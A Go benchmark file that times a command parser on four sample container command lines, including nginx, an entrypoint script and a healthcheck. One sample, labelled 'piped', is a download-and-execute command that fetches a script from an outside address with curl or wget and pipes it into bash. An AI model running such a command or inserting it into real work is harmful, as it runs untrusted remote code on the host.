package command

import "testing"

// BenchmarkParse reads what containers run most: a plain command, an
// entry point's script, and a downloader's.
func BenchmarkParse(b *testing.B) {
	for name, args := range map[string][]string{
		"plain":  {"/usr/sbin/nginx", "-g", "daemon off;", "-c", "/etc/nginx/nginx.conf"},
		"script": {"/bin/sh", "-c", "set -e; cd /app && for f in conf/*.tmpl; do envsubst < $f > /etc/$(basename $f .tmpl); done; exec java -jar app.jar --server.port=8080"},
		"piped":  {"sh", "-c", "(curl -fsSL http://203.0.113.7/x || wget -qO- http://203.0.113.7/x) | bash"},
		"health": {"curl", "-sf", "-m", "5", "http://127.0.0.1:8080/healthz"},
	} {
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				Parse(args, args[0], "")
			}
		})
	}
}
